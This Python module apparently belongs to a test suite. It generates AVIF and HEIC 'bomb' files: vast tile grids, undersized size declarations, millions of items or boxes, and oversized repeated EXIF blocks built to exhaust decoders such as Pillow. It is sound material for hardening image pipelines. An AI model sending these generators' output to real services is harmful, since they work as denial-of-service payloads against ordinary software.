"""AVIF and HEIC bombs: grids, items, properties and metadata."""

import io
import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from importlib.util import find_spec

import numpy as np
import zoo
from image_formats import box, full_box, split_boxes
from PIL import Image, features

from image_bombs.registry import bomb, fill


def _encode_avif(image: Image.Image, **options: object) -> bytes:
    return zoo.encode(image, "AVIF", speed=10, **options)


def _encode_heic(image: Image.Image) -> bytes:
    import pillow_heif

    buffer = io.BytesIO()
    pillow_heif.from_pillow(image).save(buffer)
    return buffer.getvalue()


@dataclass(frozen=True)
class _Item:
    """An item of a HEIF file: its type, and the places of its extents in the data, as offset and length."""

    kind: bytes
    extents: Sequence[tuple[int, int]]


def _write_heif(template: bytes, items: Sequence[_Item], references: bytes, properties: bytes, data: bytes) -> bytes:
    """Return a HEIF file whose items have the numbers from 1 on; the first is the image.

    Args:
        template: file whose type and handler are used.
        items: the items.
        references: content of the box of references.
        properties: box of properties.
        data: content of the data box.
    """
    boxes = dict(split_boxes(template))
    handler = dict(split_boxes(boxes[b"meta"][4:]))[b"hdlr"]
    entries = [
        full_box(b"infe", 2, struct.pack(">HH4s", number, 0, item.kind), b"\0") for number, item in enumerate(items, 1)
    ]

    def head(start: int) -> bytes:
        places = [
            struct.pack(">HHHH", number, 0, 0, len(item.extents))
            + b"".join(struct.pack(">II", start + offset, length) for offset, length in item.extents)
            for number, item in enumerate(items, 1)
        ]
        return box(b"ftyp", boxes[b"ftyp"]) + full_box(
            b"meta",
            0,
            box(b"hdlr", handler),
            full_box(b"pitm", 0, b"\0\1"),
            full_box(b"iloc", 1, b"\x44\0", struct.pack(">H", len(items)), *places),
            full_box(b"iinf", 0, struct.pack(">H", len(items)), *entries),
            full_box(b"iref", 0, references),
            properties,
        )

    return head(len(head(0)) + 8) + box(b"mdat", data)


def _properties(template: bytes) -> list[tuple[bytes, bytes]]:
    meta = dict(split_boxes(dict(split_boxes(template))[b"meta"][4:]))
    return split_boxes(dict(split_boxes(meta[b"iprp"]))[b"ipco"])


def _data(template: bytes) -> bytes:
    return dict(split_boxes(template))[b"mdat"]


def _indices(known: list[tuple[bytes, bytes]]) -> bytes:
    """Return the association of an item with all properties, those of the decoder as essential."""
    essential = [0x80 * (name in (b"av1C", b"hvcC")) for name, _ in known]
    return bytes([len(known), *(1 + index | flag for index, flag in enumerate(essential))])


def _heif_grid(template: bytes, side: int, tiles: int, repeat: bool) -> bytes:
    """Return a HEIF file whose image is a grid.

    Args:
        template: file with an encoded tile.
        side: width and height of the tile.
        tiles: number of tiles per row and column.
        repeat: all tiles are the same item; otherwise they are different items with the same data.
    """
    known, data = _properties(template), _data(template)
    count = 1 if repeat else tiles * tiles
    numbers = range(2, 2 + count)
    of_grid = [1 + index for index, (name, _) in enumerate(known) if name == b"pixi"] + [len(known) + 1]
    properties = box(
        b"iprp",
        box(b"ipco", *(box(*one) for one in known), full_box(b"ispe", 0, struct.pack(">II", *[side * tiles] * 2))),
        full_box(
            b"ipma",
            0,
            struct.pack(">IHB", count + 1, 1, len(of_grid)) + bytes(of_grid),
            *(struct.pack(">H", number) + _indices(known) for number in numbers),
        ),
    )
    parts = [numbers[0] if repeat else numbers[index] for index in range(tiles * tiles)]
    references = box(b"dimg", struct.pack(f">HH{len(parts)}H", 1, len(parts), *parts))
    grid = struct.pack(">BBBBII", 0, 1, tiles - 1, tiles - 1, side * tiles, side * tiles)
    kind = b"av01" if any(name == b"av1C" for name, _ in known) else b"hvc1"
    items = [_Item(b"grid", [(0, len(grid))]), *[_Item(kind, [(len(grid), len(data))])] * count]
    return _write_heif(template, items, references, properties, grid + data)


def _shrink_declaration(content: bytes, side: int, declared: int) -> bytes:
    size = b"ispe" + struct.pack(">III", 0, side, side)
    assert size in content
    return content.replace(size, b"ispe" + struct.pack(">III", 0, declared, declared))


if features.check("avif"):

    @bomb
    def avif_vast_grid() -> bytes:
        """13,000 x 13,000 pixels, a grid of 169 tiles that share their data."""
        return _heif_grid(_encode_avif(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=False)

    @bomb
    def avif_grid_of_one_tile() -> bytes:
        """13,000 x 13,000 pixels, a grid in which one tile is repeated."""
        return _heif_grid(_encode_avif(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=True)

    @bomb
    def avif_grid_with_flags() -> bytes:
        """The grid, with flags in the box of its size."""
        content = _heif_grid(_encode_avif(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=False)
        return content.replace(b"ispe\0\0\0\0", b"ispe\0\0\0\1")

    @bomb
    def avif_grid_before_broken_box() -> bytes:
        """10,000 x 10,000 pixels, and broken metadata at the end of the file, which the decoder does not read."""
        content = _heif_grid(_encode_avif(Image.new("RGB", (1000, 1000))), 1000, 10, repeat=False)
        return content + box(b"free", bytes(100_000)) + full_box(b"meta", 0, full_box(b"iloc", 1, b"\x44\0\xff\xff"))

    @bomb
    def avif_exif_headers() -> bytes:
        """1,000 headers of EXIF blocks, which share directories of 4,096 fields."""
        headers = b"".join(b"II*\0" + struct.pack("<II", 12_000, 0) for _ in range(1000))
        # Twelve bytes that are a field of a directory, and whose first two bytes are a number of fields.
        fields = [struct.pack("<HHHIH", 4096, tag, 3, 1, 24_000) for tag in (34665, 34853, 40965)]
        return _encode_avif(zoo.photo(32)) + box(b"free", headers, b"".join(fields) * 4096)

    @bomb
    def avif_items() -> bytes:
        """1.3 million items."""
        numbers = np.arange(2, 1_300_000, dtype=">u4")
        entries = np.zeros((len(numbers), 23), np.uint8)
        entries[:] = np.frombuffer(full_box(b"infe", 3, bytes(4), bytes(2), b"junk", b"\0"), np.uint8)
        entries[:, 12:16] = numbers.view(np.uint8).reshape(-1, 4)
        items = full_box(b"iinf", 1, struct.pack(">I", len(entries)), entries.tobytes())
        return _with_box(b"iinf", lambda old: items)

    @bomb
    def avif_properties() -> bytes:
        """3.8 million unknown properties."""
        flood = fill(box(b"junk"))

        def add(old: bytes) -> bytes:
            boxes = split_boxes(old)
            return box(b"iprp", *(box(name, inner, flood if name == b"ipco" else b"") for name, inner in boxes))

        return _with_box(b"iprp", add)

    @bomb
    def avif_free_boxes() -> bytes:
        """3.8 million boxes without content."""
        return _with_box(b"iinf", lambda old: box(b"iinf", old) + fill(box(b"free")))

    @bomb
    def avif_exif_fractions() -> bytes:
        """A rotated image with EXIF of 3.7 million fractions, which Pillow writes again when it opens the file."""
        exif = Image.Exif()
        exif[0x0112] = 6
        exif[0x010F] = "a" * 30_000_000
        content = _encode_avif(zoo.photo(32), exif=exif)
        ascii_ = struct.pack(">HHI", 0x010F, 2, 30_000_001)
        assert ascii_ in content
        return content.replace(ascii_, struct.pack(">HHI", 0x010F, 5, 3_750_000))

    def _with_box(kind: bytes, change: Callable[[bytes], bytes]) -> bytes:
        """Return an AVIF file in which a box of `meta` is replaced by the result of `change` on its content."""
        boxes = split_boxes(_encode_avif(zoo.photo(32)))
        old = dict(boxes)[b"meta"]

        def meta(growth: int) -> bytes:
            inner = []
            for name, content in split_boxes(old[4:]):
                if name == b"iloc":
                    places = struct.unpack(">HHHII", content[8:])
                    content = content[:8] + struct.pack(">HHHII", *places[:3], places[3] + growth, places[4])
                inner.append(change(content) if name == kind else box(name, content))
            return box(b"meta", old[:4], *inner)

        new = meta(len(meta(0)) - len(old) - 8)
        return b"".join(new if name == b"meta" else box(name, content) for name, content in boxes)


if find_spec("pillow_heif"):

    @bomb
    def heic_vast_grid() -> bytes:
        """13,000 x 13,000 pixels, a grid of 169 tiles that share their data."""
        return _heif_grid(_encode_heic(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=False)

    @bomb
    def heic_grid_of_one_tile() -> bytes:
        """13,000 x 13,000 pixels, a grid in which one tile is repeated."""
        return _heif_grid(_encode_heic(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=True)

    @bomb
    def heic_grid_with_flags() -> bytes:
        """The grid, with flags in the box of its size."""
        content = _heif_grid(_encode_heic(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=False)
        return content.replace(b"ispe\0\0\0\0", b"ispe\0\0\0\1")

    @bomb
    def heic_grid_larger_than_declared() -> bytes:
        """A grid of 13,000 x 13,000 pixels that is declared as 1,300 x 1,300."""
        grid = _heif_grid(_encode_heic(Image.new("RGB", (1000, 1000))), 1000, 13, repeat=False)
        return _shrink_declaration(grid, 13_000, 1300)

    @bomb
    def heic_metadata() -> bytes:
        """1,000 EXIF blocks, which all are the same 30 MB."""
        return _heic_with_exif(1000, 1)

    @bomb
    def heic_extents() -> bytes:
        """An EXIF block that consists of the same 30 MB 30 times."""
        return _heic_with_exif(1, 30)

    def _heic_with_exif(blocks: int, extents: int) -> bytes:
        template = _encode_heic(Image.new("RGB", (64, 64)))
        known, data, exif = _properties(template), _data(template), bytes(30_000_000)
        items = [_Item(b"hvc1", [(0, len(data))]), *[_Item(b"Exif", [(len(data), len(exif))] * extents)] * blocks]
        references = b"".join(box(b"cdsc", struct.pack(">HHH", 2 + number, 1, 1)) for number in range(blocks))
        association = full_box(b"ipma", 0, struct.pack(">IH", 1, 1), _indices(known))
        properties = box(b"iprp", box(b"ipco", *(box(*one) for one in known)), association)
        return _write_heif(template, items, references, properties, data + exif)

    @bomb
    def heic_grid_before_broken_box() -> bytes:
        """10,000 x 10,000 pixels, and a broken box at the end of the file."""
        content = _heif_grid(_encode_heic(Image.new("RGB", (1000, 1000))), 1000, 10, repeat=False)
        return content + box(b"free", bytes(100_000)) + full_box(b"meta", 0, full_box(b"iloc", 1, b"\x44\0\xff\xff"))
